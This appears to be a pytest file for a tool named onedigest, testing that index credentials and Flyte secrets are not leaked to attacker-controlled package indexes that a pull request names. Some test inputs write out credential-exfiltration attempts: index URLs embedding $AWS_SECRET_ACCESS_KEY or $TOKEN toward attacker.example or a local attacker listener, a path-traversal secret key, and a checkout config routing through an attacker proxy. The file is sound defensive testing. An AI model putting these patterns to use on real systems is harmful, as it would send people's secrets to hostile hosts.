"""A pull request names an index like the private one, at an address of its own: nobody's credentials go there."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from index_requests import failed, lock, make_project, script
from listener import Listener, asking_index, empty_index, listening
from onedigest.errors import InputError, NetworkError

USER, SECRET = "ci-bot", "SECRET-index-pw"
SHOWN = {f"{USER}:{SECRET}"}


@pytest.fixture
def attacker() -> Iterator[Listener]:
    with listening(asking_index) as found:
        yield found


@pytest.fixture
def private() -> Iterator[Listener]:
    """An index that has nothing, so that the next one is asked."""
    with listening(empty_index) as found:
        yield found


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project, and an environment that holds nothing but what a test puts there."""
    return make_project(tmp_path, monkeypatch)


def flyte_script(folder: Path, index: str, secrets: str = "") -> None:
    """Write a script with an image of Flyte that has an index."""
    mounts = f", secret_mounts=[{secrets}]" if secrets else ""
    (folder / "job.py").write_text(
        "import flyte\n"
        "image = flyte.Image.from_debian_base(name='job', registry='localhost:1/x', install_flyte=False)"
        f".with_pip_packages('alpha', index_url={index!r}{mounts})\n"
    )


def give(monkeypatch: pytest.MonkeyPatch, name: str = "INTERNAL") -> None:
    monkeypatch.setenv(f"UV_INDEX_{name}_USERNAME", USER)
    monkeypatch.setenv(f"UV_INDEX_{name}_PASSWORD", SECRET)


class TestVariables:
    def test_go_to_no_address_that_the_script_alone_names(
        self, folder: Path, attacker: Listener, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        give(monkeypatch)
        script(folder, ("internal", attacker))
        failed()

        assert attacker.paths()
        assert attacker.credentials() == set()
        assert capsys.readouterr().err == (
            "warning: job.py:5: UV_INDEX_INTERNAL_USERNAME and UV_INDEX_INTERNAL_PASSWORD are not shown to"
            f" {attacker.host}: that the index `internal` is there, the script alone says\n"
            "hint: if the address is right, put it where no pull request can:"
            f' UV_INDEX="internal={attacker.address}/simple", or an [[index]] of your uv.toml, or a netrc\n'
        )

    @pytest.mark.parametrize("name", ["INTERNAL", "inTernal"])
    def test_of_an_index_of_the_user_go_to_none_of_nearly_that_name(
        self, name: str, folder: Path, attacker: Listener, private: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        give(monkeypatch)
        monkeypatch.setenv("UV_INDEX", f"internal={private.address}/simple")
        script(folder, (name, attacker.address.replace("127.0.0.1", "localhost") + "/simple"))
        failed()

        assert private.credentials() == SHOWN
        assert attacker.credentials() == set()

    def test_of_the_users_uv_toml_go_to_no_other_index_of_that_name(
        self, folder: Path, attacker: Listener, private: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        give(monkeypatch)
        write_uv_toml(tmp_path, private)
        script(folder, ("internal", attacker.address.replace("127.0.0.1", "localhost") + "/simple"))
        failed()

        assert attacker.credentials() == set()

    def test_named_by_a_uv_toml_of_the_checkout_count_for_nothing(
        self, folder: Path, attacker: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        give(monkeypatch)
        (folder / "uv.toml").write_text(f'[[index]]\nname = "internal"\nurl = "{attacker.address}/simple"\n')
        monkeypatch.setenv("UV_CONFIG_FILE", str(folder / "uv.toml"))
        script(folder, ("internal", attacker))
        failed()

        assert attacker.credentials() == set()

    def test_go_nowhere_that_a_uv_toml_of_the_checkout_leads_them(
        self, folder: Path, attacker: Listener, private: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Such as without TLS, by a proxy of the checkout's."""
        give(monkeypatch)
        monkeypatch.setenv("UV_INDEX", "internal=http://pypi.acme.example/simple")
        text = f'allow-insecure-host = ["pypi.acme.example"]\nhttp-proxy = "{attacker.address}"\nindex-strategy = "x"\n'
        (folder / "uv.toml").write_text(f'{text}extra-index-url = ["{private.address}/simple"]\n')
        monkeypatch.setenv("UV_CONFIG_FILE", str(folder / "uv.toml"))
        monkeypatch.setenv("UV_HTTP_RETRIES", "0")
        script(folder, ("internal", "http://pypi.acme.example/simple"))
        failed()

        assert attacker.seen == []

        monkeypatch.delenv("UV_INDEX")
        script(folder, ("other", private))
        failed()
        assert private.paths()

    def test_go_where_a_variable_says_that_the_index_is(
        self, folder: Path, private: Listener, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        give(monkeypatch)
        monkeypatch.setenv("UV_INDEX", f"internal={private.address}/simple")
        script(folder, ("internal", private))
        failed()

        assert private.credentials() == SHOWN
        assert capsys.readouterr().err == ""

    def test_go_where_the_users_uv_toml_says_that_the_index_is(
        self, folder: Path, private: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        give(monkeypatch)
        write_uv_toml(tmp_path, private)
        script(folder, ("internal", private))
        failed()

        assert private.credentials() == SHOWN

    def test_go_to_the_users_default_index_by_its_name(
        self, folder: Path, private: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        give(monkeypatch, "CORP_MAIN")
        monkeypatch.setenv("UV_DEFAULT_INDEX", f"corp-main={private.address}/simple")
        script(folder, ("other", "http://127.0.0.1:1/simple"))
        (folder / "job.py").write_text("# /// script\n# dependencies = ['alpha']\n# ///\n")
        failed()

        assert private.credentials() == SHOWN


class TestNetrc:
    def test_default_is_for_no_index_of_a_script(
        self, folder: Path, attacker: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        write_netrc(tmp_path, f"machine real.example login a password b\ndefault login {USER} password {SECRET}\n")
        monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
        script(folder, ("any", attacker))
        failed()

        assert attacker.paths()
        assert attacker.credentials() == set()

    def test_host_that_it_names_is_shown_its_own(
        self, folder: Path, private: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        write_netrc(tmp_path, f"machine 127.0.0.1 login {USER} password {SECRET}\ndefault login x password y\n")
        monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
        script(folder, ("any", private))
        failed()

        assert private.credentials() == SHOWN


class TestFlyte:
    def test_no_variable_is_filled_in_that_is_not_listed(
        self, folder: Path, attacker: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
        flyte_script(folder, f"http://AWS:$AWS_SECRET_ACCESS_KEY@{attacker.host}/simple")

        assert failed() == (
            "job.py:2: an index on 127.0.0.1 asks for AWS_SECRET_ACCESS_KEY, which ONEDIGEST_SECRETS does not list\n"
            'hint: if that is right, list it for the host: ONEDIGEST_SECRETS="AWS_SECRET_ACCESS_KEY@127.0.0.1"'
        )
        assert attacker.seen == []

    def test_no_file_is_read_that_is_not_a_secret(
        self, folder: Path, attacker: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        (tmp_path / "private").write_text(SECRET)
        key = f"../..{tmp_path}/private"
        monkeypatch.setenv("ONEDIGEST_SECRETS", f"X {key.upper()}")
        index = f"http://u:$X@{attacker.host}/simple"
        flyte_script(folder, index, f"flyte.Secret(key={key!r}, as_env_var='X')")

        assert failed() == (
            f"job.py:2: the key or the group of the secret {key[:80]!r} is no plain name\n"
            "hint: use letters, digits, `.`, `_` and `-`"
        )
        assert attacker.seen == []

    def test_no_secret_goes_to_a_host_that_it_is_not_for(
        self, folder: Path, attacker: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("GITHUB_TOKEN", SECRET)
        monkeypatch.setenv("ONEDIGEST_SECRETS", "GITHUB_TOKEN@pypi.acme.example, OTHER")
        index = f"http://u:$X@{attacker.host}/simple"
        flyte_script(folder, index, "flyte.Secret(key='github_token', as_env_var='X')")

        assert failed() == (
            "job.py:2: an index on 127.0.0.1 asks for GITHUB_TOKEN, which ONEDIGEST_SECRETS lists for"
            " pypi.acme.example\nhint: if that is right, list it for the host:"
            ' ONEDIGEST_SECRETS="GITHUB_TOKEN@pypi.acme.example, OTHER GITHUB_TOKEN@127.0.0.1"'
        )
        assert attacker.seen == []

    def test_no_secret_that_is_listed_without_a_host_goes_anywhere(
        self, folder: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("TOKEN", SECRET)
        monkeypatch.setenv("ONEDIGEST_SECRETS", "TOKEN")
        flyte_script(folder, "https://u:$TOKEN@attacker.example/simple")

        assert failed() == (
            "job.py:2: an index on attacker.example asks for TOKEN, which ONEDIGEST_SECRETS lists without a host\n"
            'hint: if that is right, list it for the host: ONEDIGEST_SECRETS="TOKEN TOKEN@attacker.example"'
        )

    def test_no_secret_becomes_a_variable_of_uv(
        self, folder: Path, attacker: Listener, private: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("ADDRESS", f"{attacker.address}/simple")
        monkeypatch.setenv("ONEDIGEST_SECRETS", "ADDRESS")
        flyte_script(folder, f"{private.address}/simple", "flyte.Secret(key='address', as_env_var='UV_INDEX')")
        failed()

        assert private.paths()
        assert attacker.seen == []

    def test_secret_goes_to_no_index_of_the_script_that_has_the_same_name(
        self, folder: Path, attacker: Listener, private: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("TOKEN", SECRET)
        monkeypatch.setenv("ONEDIGEST_SECRETS", "TOKEN")
        script(folder, ("FLYTE.1", attacker))
        block = (folder / "job.py").read_text()
        (folder / "job.py").write_text(
            f"{block}import flyte\n"
            "image = flyte.Image.from_uv_script(__file__, name='job', registry='localhost:1/x',"
            f" extra_index_urls=['http://u:$TOKEN@{private.host}/simple'])\n"
        )

        with suppress(InputError, NetworkError):
            lock()
        assert attacker.credentials() == set()

    @pytest.mark.parametrize("listed", ["TOKEN", "A,TOKEN@127.0.0.1"])
    def test_secret_that_is_listed_goes_to_its_host(
        self, listed: str, folder: Path, private: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("TOKEN", SECRET)
        monkeypatch.setenv("ONEDIGEST_SECRETS", listed)
        flyte_script(folder, f"http://{USER}:$TOKEN@{private.host}/simple")
        failed()

        assert private.credentials() == SHOWN


def write_uv_toml(home: Path, index: Listener) -> None:
    """Write the user's own configuration of uv."""
    path = home / "xdg_config_home" / "uv" / "uv.toml"
    path.parent.mkdir(parents=True)
    path.write_text(f'[[index]]\nname = "internal"\nurl = "{index.address}/simple"\n')


def write_netrc(home: Path, text: str) -> None:
    """Write a netrc that only its owner reads."""
    path = home / "netrc"
    path.touch(mode=0o600)
    path.write_text(text)
